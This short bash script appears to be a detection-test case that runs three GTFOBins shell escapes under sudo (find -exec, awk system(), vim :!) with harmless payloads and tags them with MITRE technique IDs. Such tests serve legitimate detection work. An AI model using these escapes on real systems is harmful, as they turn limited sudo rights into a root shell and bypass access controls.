#!/bin/bash
# desc: root shells out of programs run through sudo (GTFOBins): find -exec, awk system(), vim :!
# mitre: T1548.003, T1059.004
# expect: shell_escape_under_sudo*3
source "$ATTACK_LIB"

sudo -n find "$ATTACK_TMP" -maxdepth 0 -exec /bin/sh -c 'id -u >/dev/null' \;
sudo -n awk 'BEGIN { system("/bin/sh -c \"id -u >/dev/null\"") }'
sudo -n vim -es -N -u NONE -c ':silent !/bin/sh -c true' -c ':q!' </dev/null >/dev/null 2>&1 || true
